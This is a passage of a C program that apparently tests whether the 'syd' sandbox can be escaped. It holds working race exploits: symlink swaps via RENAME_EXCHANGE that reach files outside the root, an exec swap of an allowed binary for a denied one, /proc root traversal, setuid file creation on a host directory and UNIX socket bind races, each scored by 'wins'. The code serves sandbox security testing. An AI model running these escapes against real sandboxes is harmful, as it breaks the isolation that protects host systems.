  verdict("ids_fstat", e == 0 && st.st_uid != 65534, "errno=%d uid=%u gid=%u", e, st.st_uid,
          st.st_gid);
  if (fd >= 0) close(fd);
}

/* ---- binds are nosymfollow: links on them are not followed */
static void nosymfollow(void) {
  int fd = open("/inroot", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  if (fd >= 0) close(fd);
  unlink("/rw/nsf");
  int s = err_of(symlink("/inroot", "/rw/nsf"));
  unlink("/rw/nsfd");
  symlink("/", "/rw/nsfd");
  fd = open("/rw/nsf", O_RDONLY | O_CLOEXEC);
  int e = fd < 0 ? errno : 0;
  verdict("nosymfollow_open", fd >= 0, "symlink=%d open=%d", s, e);
  if (fd >= 0) close(fd);
  struct stat st;
  e = err_of(stat("/rw/nsf", &st));
  verdict("nosymfollow_stat", e == 0, "stat=%d", e);
  fd = open("/rw/nsfd/inroot", O_RDONLY | O_CLOEXEC);
  e = fd < 0 ? errno : 0;
  verdict("nosymfollow_dir", fd >= 0, "open=%d", e);
  if (fd >= 0) close(fd);
  e = err_of(truncate("/rw/nsf", 0));
  verdict("nosymfollow_truncate", e == 0, "truncate=%d", e);
}

static atomic_int stop_flag;

/* ---- an exec swapped between an allowed copy and a denied program */
static void *exec_swapper(void *arg) {
  (void)arg;
  while (!atomic_load(&stop_flag)) {
    syscall(SYS_renameat2, AT_FDCWD, "/race/e", AT_FDCWD, "/race/el", 2 /* RENAME_EXCHANGE */);
  }
  return NULL;
}

static void execrace(long rounds) {
  mkdir("/race", 0755);
  mkdir("/race/e", 0755);
  symlink("/usr/bin", "/race/el");
  int in = open("/usr/bin/true", O_RDONLY | O_CLOEXEC);
  int out = open("/race/e/id", O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
  char buf[65536];
  ssize_t n;
  while ((n = read(in, buf, sizeof buf)) > 0) write(out, buf, (size_t)n);
  close(in);
  close(out);
  pthread_t th;
  pthread_create(&th, NULL, exec_swapper, NULL);
  long ran = 0, wins = 0, failed = 0;
  for (long i = 0; i < rounds; i++) {
    int pipefd[2];
    if (pipe2(pipefd, O_CLOEXEC) != 0) break;
    pid_t pid = fork();
    if (pid == 0) {
      dup2(pipefd[1], 1);
      char *argv[] = {"id", "-u", NULL};
      execv("/race/e/id", argv);
      _exit(127);
    }
    close(pipefd[1]);
    char got[64] = "";
    ssize_t r = read(pipefd[0], got, sizeof got - 1);
    close(pipefd[0]);
    int status = 0;
    waitpid(pid, &status, 0);
    if (r > 0) wins++;
    if (WIFEXITED(status) && WEXITSTATUS(status) == 0) ran++;
    else failed++;
  }
  atomic_store(&stop_flag, 1);
  pthread_join(th, NULL);
  printf("execrace_ok ran=%ld failed=%ld\n", ran, failed);
  verdict("execrace", wins > 0, "wins=%ld", wins);
}

/* ---- every pid's /proc entry: only the namespace's own */
static void pids(long max) {
  long found = 0, reach = 0;
  char seen[128] = "";
  for (long n = 1; n <= max; n++) {
    char p[64];
    struct stat st;
    snprintf(p, sizeof p, "/proc/%ld", n);
    if (stat(p, &st) == 0) {
      found++;
      char item[16];
      snprintf(item, sizeof item, "%ld,", n);
      strncat(seen, item, sizeof seen - strlen(seen) - 1);
    }
    snprintf(p, sizeof p, "/proc/%ld/root/..", n);
    int fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (outside_dir(fd)) reach++;
    if (fd >= 0) close(fd);
  }
  verdict("pids_stat", strcmp(seen, "2,") != 0, "found=%ld seen=%s", found, seen);
  verdict("pids_root", reach > 0, "outside=%ld", reach);
  DIR *d = opendir("/proc");
  char listed[128] = "";
  struct dirent *e;
  while (d != NULL && (e = readdir(d)) != NULL) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    strncat(listed, e->d_name, sizeof listed - strlen(listed) - 2);
    strcat(listed, ",");
  }
  if (d != NULL) closedir(d);
  verdict("pids_listed", strcmp(listed, "2,") != 0, "listed=%s", listed);
}

/* ---- a set-user-ID file of the host's root in a host directory */
static void suid(void) {
  int in = open("/usr/bin/true", O_RDONLY | O_CLOEXEC);
  int out = open("/rw/suid", O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0755);
  char buf[65536];
  ssize_t n;
  while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0) write(out, buf, (size_t)n);
  if (in >= 0) close(in);
  if (out >= 0) close(out);
  int e = err_of(chmod("/rw/suid", 04755));
  struct stat st = {0};
  stat("/rw/suid", &st);
  verdict("suid_host_file", (st.st_mode & S_ISUID) != 0, "chmod=%d mode=%o uid=%u", e,
          st.st_mode & 07777, st.st_uid);
}

/* ---- binds of a UNIX socket under a swapped directory */
static void *unix_swapper(void *arg) {
  (void)arg;
  while (!atomic_load(&stop_flag)) {
    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l1", 2 /* RENAME_EXCHANGE */);
    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l1", 2);
    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l2", 2);
    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l2", 2);
  }
  return NULL;
}

static void unixrace(const char *host, long rounds) {
  mkdir("/race", 0755);
  mkdir("/race/d", 0755);
  symlink("../..", "/race/l1");
  symlink(host, "/race/l2");
  pthread_t th;
  pthread_create(&th, NULL, unix_swapper, NULL);
  long bound = 0;
  for (long i = 0; i < rounds; i++) {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "/race/d/usock%ld", i);
    if (bind(s, (struct sockaddr *)&a, sizeof a) == 0) bound++;
    close(s);
  }
  atomic_store(&stop_flag, 1);
  pthread_join(th, NULL);
  /* what was bound is left in the directory (inside); the host looks outside */
  printf("unixrace_ok bound=%ld\n", bound);
}

/* ---- the symlink swap race */

static void *swapper(void *arg) {
  (void)arg;
  /* /race/d: a real directory holding a decoy, swapped (RENAME_EXCHANGE) with links that leave
   * the root when the host's kernel follows them from the root's host name */
  while (!atomic_load(&stop_flag)) {
    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l1", 2 /* RENAME_EXCHANGE */);
    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l1", 2);
    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l2", 2);
    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l2", 2);
    int fd = open("/race/d/OUTSIDE_MARK", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    if (fd >= 0) {
      write(fd, "in\n", 3);
      close(fd);
    }
  }
  return NULL;
}

static void race(const char *host, long rounds) {
  mkdir("/race", 0755);
  mkdir("/race/d", 0755);
  symlink("../..", "/race/l1");
  symlink(host, "/race/l2");
  pthread_t th;
  pthread_create(&th, NULL, swapper, NULL);
  long won_open = 0, won_stat = 0, won_rename = 0, ok_open = 0, ok_stat = 0, ok_rename = 0;
  for (long i = 0; i < rounds; i++) {
    int fd = open("/race/d/OUTSIDE_MARK", O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
      ok_open++;
      if (outside_file(fd)) won_open++;
      close(fd);
    }
    struct stat st;
    if (stat("/race/d/OUTSIDE_MARK", &st) == 0) {
      ok_stat++;
      if (st.st_size == 18) won_stat++;
    }
    if (rename("/race/d/OUTSIDE_MARK", "/race/got") == 0) {
      ok_rename++;
      int g = open("/race/got", O_RDONLY | O_CLOEXEC);
      if (outside_file(g)) won_rename++;
      if (g >= 0) close(g);
      unlink("/race/got");
    }
  }
  atomic_store(&stop_flag, 1);
  pthread_join(th, NULL);
  printf("race_ok open=%ld stat=%ld rename=%ld\n", ok_open, ok_stat, ok_rename);
  verdict("race_open", won_open > 0, "wins=%ld", won_open);
  verdict("race_stat", won_stat > 0, "wins=%ld", won_stat);
  verdict("race_rename", won_rename > 0, "wins=%ld", won_rename);
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  /* First of all: what syd left open. */
  if (strcmp(argv[1], "all") == 0 && argc == 3) {
    inherited();
    dotdot();
    links(argv[2]);
    magic();
    openat2s();
    changes();
    unixes();
    execs(argv[2]);
    handles();
    mounts();
  } else if (strcmp(argv[1], "race") == 0 && argc == 4) {
    race(argv[2], atol(argv[3]));
  } else if (strcmp(argv[1], "sys") == 0) {
    syswrites();
  } else if (strcmp(argv[1], "mknod") == 0) {
    mknods();
  } else if (strcmp(argv[1], "dac") == 0) {
    dacs();
  } else if (strcmp(argv[1], "nosymfollow") == 0) {
    nosymfollow();
  } else if (strcmp(argv[1], "execrace") == 0 && argc == 3) {
    execrace(atol(argv[2]));
  } else if (strcmp(argv[1], "pids") == 0 && argc == 3) {
    pids(atol(argv[2]));
  } else if (strcmp(argv[1], "suid") == 0) {
    suid();
  } else if (strcmp(argv[1], "unixrace") == 0 && argc == 4) {
    unixrace(argv[2], atol(argv[3]));
  } else if (strcmp(argv[1], "ids") == 0) {
    idents();
  } else {
    return 2;
  }
  return won_any ? 1 : 0;
}
